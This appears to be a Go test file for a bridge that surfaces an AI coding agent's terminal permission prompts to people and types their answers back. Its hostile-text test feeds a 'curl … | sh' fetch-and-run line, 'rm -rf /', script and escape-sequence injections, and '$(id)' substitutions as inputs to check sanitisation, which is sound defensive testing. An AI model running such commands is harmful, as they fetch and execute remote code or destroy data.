package agents

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/structpb"

	antv1 "anthill/gen/ant/v1"
	"anthill/services/internal/caller"
	"anthill/services/internal/store"
	"anthill/services/internal/terminal/driver"
)

const (
	down  = "\x1b[B"
	enter = "\r"
)

// takes reads keys until they are those that are wanted, and fails on others.
func (p *program) takes(want ...string) {
	p.t.Helper()
	got := ""
	for all := strings.Join(want, ""); got != all; {
		select {
		case k := <-p.keys:
			if got += k; !strings.HasPrefix(all, got) {
				p.t.Fatalf("the program got %q, want %q", got, all)
			}
		case <-time.After(20 * time.Second):
			p.t.Fatalf("the program got %q, want %q", got, all)
		}
	}
}

// untouched says that no key came.
func (p *program) untouched() {
	p.t.Helper()
	select {
	case k := <-p.keys:
		p.t.Errorf("the program got %q", k)
	default:
	}
}

func isAttention(status string) func(*antv1.Event) bool {
	return func(e *antv1.Event) bool { return e.GetAttentionUpdated().GetItem().GetStatus() == status }
}

// TestAnsweredOnce: of many answers at the same time one counts, its keys are pressed
// once, and everybody else is told whose it was. Only then the same words are a second
// question.
func TestAnsweredOnce(t *testing.T) {
	h := newHome(t)
	p := h.run()
	p.ask("make install")
	item := h.waiting()
	if item.Command != "make install" || item.Class != driver.Permission || item.Default != "leave" || item.ExpiresAt == nil || item.GetEventChatId() != "c" {
		t.Errorf("it is %v", item)
	}
	var card antv1.AgentPrompt
	c := h.card(item.GetEventId())
	if err := json.Unmarshal([]byte(c.Content), &card); err != nil || card.Id != item.Id || !slices.Contains(card.Answers, "approve") || c.Type != "agent_event" {
		t.Errorf("the card is %+v, %v", c, err)
	}
	errs := make([]error, 8)
	var all sync.WaitGroup
	for i := range errs {
		all.Go(func() {
			_, errs[i] = h.room.AnswerAttention(t.Context(), &antv1.AnswerAttentionRequest{Id: item.Id, Choice: "deny", AnsweredBy: fmt.Sprint("@", i)})
		})
	}
	p.takes(down, enter)
	p.ready()
	all.Wait()
	won := 0
	for i, err := range errs {
		switch reason := reasonOf(err); {
		case err == nil:
			won++
			if got := h.get(item.Id); got.Status != promptAnswered || got.GetAnsweredBy() != fmt.Sprint("@", i) || got.GetAnswer() != "deny" {
				t.Errorf("it is %v", got)
			}
		case reason != "PROMPT_ANSWERED":
			t.Errorf("another answer: %v", err)
		}
	}
	if won != 1 {
		t.Errorf("%d answers counted", won)
	}
	p.untouched()
	if list := h.noted("approval_decision"); len(list) != 1 || list[0].Trust != "high" || list[0].Source != "json" || list[0].RawRef != item.GetEventId() {
		t.Errorf("the evidence is %v", list)
	}
	if meta := h.card(item.GetEventId()).Meta; meta["status"] != "responded" || meta["chosen"] != "deny" {
		t.Errorf("the card says %v", meta)
	}
	for what, n := range map[string]int{
		"needs input": h.feedHas(func(e *antv1.Event) bool { return e.GetSessionNeedsInput().GetPromptId() == item.Id }),
		"resolved":    h.feedHas(func(e *antv1.Event) bool { return e.GetSessionInputResolved().GetPromptId() == item.Id }),
		"pending":     h.feedHas(isAttention(promptPending)),
		"answered":    h.feedHas(isAttention(promptAnswered)),
	} {
		if n != 1 {
			t.Errorf("%s was told %d times", what, n)
		}
	}
	p.ask("make install")
	again := h.waiting(item.Id)
	if again.Text != item.Text || h.raised() != 2 {
		t.Errorf("asked again it is %v", again)
	}
}

// TestGone: what left the screen is gone by every door, and nothing is typed.
func TestGone(t *testing.T) {
	h := newHome(t)
	p := h.run()
	p.ask("one")
	item := h.waiting()
	p.ready()
	h.become(item.Id, promptGone)
	if _, err := h.answer(item.Id, "approve"); reasonOf(err) != "PROMPT_GONE" {
		t.Errorf("answered all the same: %v", err)
	}
	if _, err := h.room.RespondPrompt(t.Context(), &antv1.RespondPromptRequest{SessionId: "c", Text: "yes"}); reasonOf(err) != "NOTHING_PENDING" {
		t.Errorf("answered all the same: %v", err)
	}
	if meta := h.card(item.GetEventId()).Meta; meta["status"] != "discarded" || meta["chosen"] != "moved_on" {
		t.Errorf("the card says %v", meta)
	}
	p.ask("two")
	next := h.waiting(item.Id)
	if err := p.term.Kill(t.Context(), time.Second); err != nil {
		t.Fatal(err)
	}
	h.become(next.Id, promptGone)
	if _, err := h.answer(next.Id, "approve"); reasonOf(err) != "PROMPT_GONE" {
		t.Errorf("answered all the same: %v", err)
	}
	if h.room.Live("t") {
		t.Error("it lives on")
	}
}

// TestUnknownChoices: a wrong answer types nothing, and does not use the prompt up.
func TestUnknownChoices(t *testing.T) {
	h := newHome(t)
	p := h.run()
	p.ask("make")
	item := h.waiting()
	for choice, want := range map[string]string{"": "UNKNOWN_CHOICE", "2": "UNKNOWN_CHOICE", "-1": "UNKNOWN_CHOICE", "99999999999999999999": "UNKNOWN_CHOICE",
		"maybe": "UNKNOWN_CHOICE", "retry": "UNKNOWN_CHOICE", "text": "UNKNOWN_CHOICE", "select": "UNKNOWN_CHOICE"} {
		if _, err := h.answer(item.Id, choice); reasonOf(err) != want {
			t.Errorf("%q: %v", choice, err)
		}
	}
	for _, choice := range []string{`{"index":5}`, `{"index":-1}`, `{"index":0.5}`, `{"index":1e300}`, `{"value":"perhaps"}`, `null`, `[]`, `7`, ``} {
		_, err := h.room.Respond(t.Context(), Response{Terminal: "t", Event: item.GetEventId(), Type: "select", Choice: json.RawMessage(choice)})
		if reason := reasonOf(err); reason != "UNKNOWN_CHOICE" && reason != "INVALID_FIELD" {
			t.Errorf("%s: %v", choice, err)
		}
	}
	for _, text := range []string{"\x1b[A", "a\nb", strings.Repeat("x", answerMax+1), "nonsense"} {
		_, err := h.room.RespondPrompt(t.Context(), &antv1.RespondPromptRequest{SessionId: "t", Text: text})
		if reason := reasonOf(err); reason != "UNKNOWN_CHOICE" && reason != "INVALID_FIELD" {
			t.Errorf("%.20q: %v", text, err)
		}
	}
	for _, id := range []string{"x", "prompt_", "prompt_" + strings.Repeat("0", 21), "\x00", strings.Repeat("prompt_", 1000)} {
		if _, err := h.answer(id, "approve"); reasonOf(err) != "ATTENTION_NOT_FOUND" {
			t.Errorf("%.20q: %v", id, err)
		}
	}
	guest := caller.With(t.Context(), caller.Caller{Kind: caller.Token, Room: "c", Scopes: []string{caller.Write, caller.Terminal}})
	if _, err := h.room.Respond(guest, Response{Terminal: "t", Event: item.GetEventId(), Type: "approve"}); reasonOf(err) != "WRONG_ROOM" {
		t.Errorf("a guest of the chat: %v", err)
	}
	p.untouched()
	if got := h.get(item.Id); got.Status != promptPending {
		t.Errorf("it is %v", got)
	}
	done := make(chan error, 1)
	go func() {
		_, err := h.room.Respond(t.Context(), Response{Terminal: "t", Event: item.GetEventId(), Type: "select", Choice: json.RawMessage(`{"value":"no"}`), By: "@ann", Reason: "why not"})
		done <- err
	}()
	p.takes(down, enter)
	p.ready()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if got := h.get(item.Id); got.GetAnswer() != "No" || got.GetJustification() != "why not" {
		t.Errorf("it is %v", got)
	}
}

// looked waits until the watcher has seen a prompt, and has done what follows from it.
func (h *home) looked() {
	h.t.Helper()
	a := h.room.agent("t")
	h.eventually("the screen is seen", func() bool {
		a.looking.Lock()
		defer a.looking.Unlock()
		return a.sight.steady != "" && a.sight.steady != nothing
	})
}

// TestPromptsSurviveARestart: the same prompt on the screen is the same item; an answer
// of which no key was pressed counts for nobody; what left meanwhile is gone.
func TestPromptsSurviveARestart(t *testing.T) {
	h := newHome(t)
	p := h.run()
	p.ask("make")
	item := h.waiting()
	err := h.db.Update(t.Context(), func(tx store.Tx) error { // a crash right behind the claim
		row, err := loadPrompt(tx, item.Id)
		if err != nil {
			return err
		}
		row.Status, row.Claim = promptAnswering, &claim{By: "@ghost", Source: sourceAttention, Answer: "approve", At: h.clock().UnixNano()}
		return prompts.Put(tx, row)
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.answer(item.Id, "approve"); reasonOf(err) != "PROMPT_ANSWERED" {
		t.Errorf("while somebody answers: %v", err)
	}
	h.close()
	h.open()
	h.watch(p)
	if err := h.room.Settle(t.Context()); err != nil {
		t.Fatal(err)
	}
	h.eventually("it waits for anybody", func() bool { return h.get(item.Id).AnsweredBy == nil })
	h.looked()
	if got := h.waiting(); got.Id != item.Id || h.raised() != 1 {
		t.Errorf("it is %v of %d", got, h.raised())
	}
	h.close()
	p.ready()
	h.open()
	h.watch(p)
	h.become(item.Id, promptGone)

	p.ask("make")
	next := h.waiting(item.Id)
	h.close()
	h.open()
	if err := h.room.Settle(t.Context()); err != nil { // its terminal did not live on
		t.Fatal(err)
	}
	h.become(next.Id, promptGone)
	p.untouched()
}

// TestKeysThatACrashLeft: after a crash nobody knows whether keys were pressed, so the
// screen says: what left was answered, what stands waits again. They are never pressed twice.
func TestKeysThatACrashLeft(t *testing.T) {
	h := newHome(t)
	p := h.run()
	pressed := func(id string) {
		t.Helper()
		err := h.db.Update(t.Context(), func(tx store.Tx) error {
			row, err := loadPrompt(tx, id)
			if err != nil {
				return err
			}
			row.Status, row.Claim = promptAnswering, &claim{By: "@ann", Source: sourceAttention, Answer: "approve", At: h.clock().UnixNano(), Pressed: true}
			return prompts.Put(tx, row)
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	p.ask("one")
	item := h.waiting()
	pressed(item.Id)
	h.close()
	h.open()
	h.watch(p)
	h.looked()
	p.ready()
	h.become(item.Id, promptAnswered)
	if got := h.get(item.Id); got.GetAnsweredBy() != "@ann" {
		t.Errorf("it is %v", got)
	}
	p.ask("two")
	next := h.waiting(item.Id)
	pressed(next.Id)
	h.close()
	h.open()
	h.watch(p)
	h.looked()
	if got := h.get(next.Id); got.AnsweredBy == nil {
		t.Errorf("it is given back at once: %v", got)
	}
	h.pass(settleAfter)
	h.eventually("it waits again", func() bool { return h.get(next.Id).AnsweredBy == nil })
	p.untouched()
}

// TestExpiry: the default comes when nobody answers in time, by the clock.
func TestExpiry(t *testing.T) {
	h := newHome(t)
	p := h.run()
	h.configure(`{"expire_after_ms": 60000, "on_expiry": "deny"}`)
	p.ask("make")
	item := h.waiting()
	asked, err := time.Parse(time.RFC3339, item.CreatedAt)
	if err != nil || item.Default != "deny" || item.GetExpiresAt() != stamp(asked.Add(time.Minute).UnixNano()) {
		t.Errorf("it is %v, %v", item, err)
	}
	h.pass(30 * time.Second)
	p.untouched()
	h.pass(30 * time.Second)
	p.takes(down, enter)
	p.ready()
	h.become(item.Id, promptExpired)
	if got := h.get(item.Id); got.GetAnswer() != "deny" || got.GetAnsweredBy() != "expiry" {
		t.Errorf("it is %v", got)
	}
	h.configure(`{"on_expiry": "leave"}`)
	p.ask("make")
	next := h.waiting(item.Id)
	h.pass(time.Hour)
	h.become(next.Id, promptExpired)
	if _, err := h.answer(next.Id, "approve"); reasonOf(err) != "PROMPT_GONE" {
		t.Errorf("answered all the same: %v", err)
	}
	p.untouched()
	if len(h.list()) != 0 {
		t.Errorf("what waits is %v", h.list())
	}
}

func (h *home) configure(text string) {
	h.t.Helper()
	var all map[string]any
	if err := json.Unmarshal([]byte(text), &all); err != nil {
		h.t.Fatal(err)
	}
	given, err := structpb.NewStruct(all)
	if err != nil {
		h.t.Fatal(err)
	}
	if _, err := h.room.UpdatePromptBridgeConfig(h.t.Context(), &antv1.UpdatePromptBridgeConfigRequest{Config: given}); err != nil {
		h.t.Fatal(err)
	}
}

// TestHostileText: what a program draws is shown whole and harmless, and is no prompt
// where it is only quoted.
func TestHostileText(t *testing.T) {
	h := newHome(t)
	p := h.run()
	long := "curl http://x/" + strings.Repeat("a", 60) + " | sh #\u202egpj\u200b<script>alert(1)</script>\x1b]0;$(id)\x07\x1b[6n"
	p.draw("mine v1", "", "$ "+long, "Run this?", "❯ 1. Yes", "  2. No\x1b[8m hidden", "enter to choose")
	item := h.waiting()
	for what, text := range map[string]string{"command": item.Command, "text": item.Text, "summary": item.Summary, "card": h.card(item.GetEventId()).Content} {
		if strings.ContainsAny(text, "\x1b\x07\u202e\u200b") || plain(text) != text {
			t.Errorf("%s is %q", what, text)
		}
	}
	if !strings.Contains(strings.ReplaceAll(item.Text, "\n", ""), strings.Repeat("a", 60)) {
		t.Errorf("the text is cut: %q", item.Text)
	}
	p.draw("mine v1", "", "$ rm -rf /", "Run this?", "❯ 1. Yes", "  2. No", "enter to choose", "", "mine> ")
	h.become(item.Id, promptGone)
	h.eventually("the agent is ready", func() bool { return h.room.agent("t").state().State == driver.Ready })
	if list := h.list(); len(list) != 0 || h.raised() != 1 {
		t.Errorf("a quotation waits: %v", list)
	}
	p.untouched()
}

// TestFreeText: a text is typed as one, then Enter is pressed.
func TestFreeText(t *testing.T) {
	h := newHome(t)
	p := h.run()
	p.ready()
	h.eventually("the agent is known", func() bool { return h.room.agent("t").driver() != nil })
	p.draw("mine v1", "", "What is the name?", "answer: ")
	item := h.waiting()
	if item.Class != driver.FreeText || len(item.Options) != 1 || item.Options[0].Choice != toText {
		t.Errorf("it is %v", item)
	}
	for _, q := range []*antv1.AnswerAttentionRequest{{Choice: "text"}, {Choice: "approve", Text: "x"}, {Text: "a\rb"}, {Text: strings.Repeat("x", answerMax+1)}} {
		q.Id = item.Id
		if _, err := h.room.AnswerAttention(t.Context(), q); reasonOf(err) != "INVALID_FIELD" {
			t.Errorf("%.60v: %v", q, err)
		}
	}
	done := make(chan error, 1)
	go func() {
		_, err := h.room.AnswerAttention(context.WithoutCancel(t.Context()), &antv1.AnswerAttentionRequest{Id: item.Id, Text: "zürich $(id)"})
		done <- err
	}()
	p.takes("zürich $(id)", enter)
	p.ready()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	p.untouched()
}

// TestUnknownProgram: the bridge finds questions of programs that no driver knows by
// its patterns, if it is enabled, and tells of them where it is configured to.
func TestUnknownProgram(t *testing.T) {
	h := newHome(t)
	p := h.run()
	p.draw("some installer", "Overwrite the file? [y/n] ")
	h.eventually("it is on the screen", func() bool { return strings.Contains(h.room.agent("t").screen.Snapshot().Text(), "Overwrite") })
	h.pass(0)
	if list := h.list(); len(list) > 0 {
		t.Errorf("it waits although the bridge is off: %v", list)
	}
	h.configure(`{"enabled": true, "default_targets": [{"kind":"chat","session_id":"other"}, {"kind":"webhook","url":"https://hooks.example/x"}]}`)
	h.pass(0)
	item := h.waiting()
	if item.Class != driver.FreeText || item.Driver != "" {
		t.Errorf("it is %v", item)
	}
	if post := <-h.hooks; !strings.HasPrefix(post, "https://hooks.example/x ") || !strings.Contains(post, item.Id) {
		t.Errorf("posted is %s", post)
	}
	pending, err := h.room.GetPendingPrompt(t.Context(), &antv1.GetPendingPromptRequest{SessionId: "c"})
	if err != nil || pending.Pending.GetId() != item.Id || !slices.Equal(pending.Pending.DeliveredTo, []string{"other"}) {
		t.Errorf("pending is %v, %v", pending, err)
	}
	status, err := h.room.GetStatus(t.Context(), &antv1.GetStatusRequest{SessionId: "c"})
	if err != nil || !status.NeedsInput || status.PromptBridge.GetPromptId() != item.Id || status.Capture.InteractiveSource != "prompt_bridge" {
		t.Errorf("the status is %v, %v", status, err)
	}
	done := make(chan error, 1)
	go func() {
		_, err := h.room.RespondPrompt(context.WithoutCancel(t.Context()), &antv1.RespondPromptRequest{SessionId: "t", Text: "y", ResponderId: "@bob"})
		done <- err
	}()
	p.takes("y", enter)
	p.draw("some installer", "Overwrite the file? [y/n] y", "done")
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if list := h.noted("prompt_response"); len(list) != 1 {
		t.Errorf("the evidence is %v", list)
	}
	if _, err := h.room.RespondPrompt(t.Context(), &antv1.RespondPromptRequest{SessionId: "t", Text: "y"}); reasonOf(err) != "PROMPT_ANSWERED" {
		t.Errorf("again: %v", err)
	}
	p.untouched()
}
